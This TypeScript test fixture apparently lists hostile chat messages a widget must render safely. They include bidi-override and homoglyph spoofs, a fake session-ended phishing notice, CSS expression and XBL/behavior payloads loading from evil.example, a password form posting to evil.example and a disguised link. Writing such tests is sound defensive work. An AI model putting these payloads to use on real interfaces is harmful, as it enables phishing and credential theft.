import type {Hostile} from '../hostile.ts';
import {card, text} from './builders.ts';

/** Text that looks like something it is not. It is shown as it is, and stays inside its bubble. */
const spoofs: readonly (readonly [name: string, words: string])[] = [
  ['contains a right-to-left override', 'Pay \u202e000,1\u202c now'],
  ['contains an unclosed right-to-left override', 'Pay \u202e000,1 now'],
  ['contains an unclosed isolate', 'Pay \u2067now'],
  ['changes direction a hundred times', 'a\u202eb\u202d'.repeat(100)],
  ['contains zero-width characters', 'pay\u200bpal\u200c.\u200dexample\u2060'],
  ['contains homoglyphs', 'Your bank: аррӏе рауреl'],
  ['contains fullwidth letters', 'ｅｖｉｌ．ｅｘａｍｐｌｅ'],
  ['contains stacked combining marks', `H${'\u0301\u0321\u0489'.repeat(200)}i`],
  ['contains invisible tag characters', 'Words\u{e0068}\u{e0069}\u{e007f} end'],
  ['contains a lone surrogate', 'Half \ud83d of a pair'],
  ['contains control characters', 'A bell \u0007 and an escape \u001b[31m red'],
  ['contains Unicode line separators', 'One\u2028two\u2029three'],
  ['contains a byte order mark', '\ufeffWords'],
  ['contains private-use characters', 'Words \ue000\uf8ff\u{f0000}'],
  ['contains many joined emoji', '👩‍👩‍👧‍👦'.repeat(50)],
  ['contains lone regional indicators', '🇦'.repeat(99)],
  ['is one word of 4,000 letters', 'w'.repeat(4_000)],
  ['has a thousand lines', 'line\n'.repeat(1_000).trim()],
  ['is right-to-left', 'ادفع الآن'],
  ['imitates a notice of the chat', 'Not sent. Try again'],
  ['imitates a message of the visitor', 'You, 12:00: I agree'],
  ['imitates the end of a session', '⚠ Your session ended. Log in: https://evil.example/'],
];

/** Styling and markup that is removed. */
const styledBodies: readonly (readonly [name: string, body: string, words: string])[] = [
  ['a style that covers everything', '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Log in</p>', 'Log in'],
  ['a CSS expression', '<b style="width:expression(ran())">Words</b>', 'Words'],
  ['an XBL binding', '<b style="-moz-binding:url(https://evil.example/x.xml#x)">Words</b>', 'Words'],
  ['a CSS behavior', '<b style="behavior:url(https://evil.example/x.htc)">Words</b>', 'Words'],
  ['a background picture', '<b style="background:image-set(\'https://evil.example/x\' 1x)">Words</b>', 'Words'],
  ['a background URL with attr()', '<b style="background:url(https://evil.example/?x=attr(href))">Words</b>', 'Words'],
  ['a custom property of ours', '<b style="--parley-brand:red;--_accent:red">Words</b>', 'Words'],
  ['a class of ours', '<b class="bubble visitor failed">Words</b>', 'Words'],
  ['a part of ours', '<b part="bubble visitor" exportparts="header">Words</b>', 'Words'],
  ['a slot of ours', '<b slot="header">Words</b>', 'Words'],
  ['a role of ours', '<b role="alert" aria-live="assertive">Words</b>', 'Words'],
  ['a font element', '<font color="red" size="7" face="evil">Words</font>', 'Words'],
  ['a marquee', '<marquee behavior="alternate">Words</marquee>', 'Words'],
  [
    'a login form',
    '<form action="https://evil.example"><label>Password<input type="password" name="p"></label><button>Log in</button></form>',
    'Log in',
  ],
  ['a dialog', '<dialog open>Words</dialog>', 'Words'],
  ['a popover', '<div popover="manual" id="evil">Words</div>', 'Words'],
  ['contenteditable', '<p contenteditable="true">Words</p>', 'Words'],
  ['a canvas', '<canvas id="evil">Words</canvas>Other words', 'Other words'],
  ['an access key', '<b accesskey="x" tabindex="1">Words</b>', 'Words'],
  ['a draggable element', '<b draggable="true" ondragstart="ran()">Words</b>', 'Words'],
];

export const appearances: readonly Hostile[] = [
  ...spoofs.map(([name, words]) => ({
    name: `a card that ${name}`,
    message: card({title: words, subtitle: 'Subtitle'}),
    shows: ['Subtitle'],
  })),
  ...spoofs.map(([name, words]) => ({
    name: `a body that ${name}`,
    message: text(words, {quick_replies: ['Go on']}),
    shows: ['Go on'],
    links: words.includes('https://evil.example/') ? ['https://evil.example/'] : [],
  })),
  ...styledBodies.map(([name, body, words]) => ({name: `a body with ${name}`, message: text(body), shows: [words]})),
  {
    name: 'a link named as another host',
    message: text('[https://bank.example/login](https://evil.example/login)'),
    shows: ['https://bank.example/login'],
    links: ['https://evil.example/login'],
  },
  {
    name: 'a link around everything',
    message: text('<a href="https://evil.example/"><p>One</p><p>Two</p></a>'),
    shows: ['One', 'Two'],
    links: ['https://evil.example/'],
  },
];
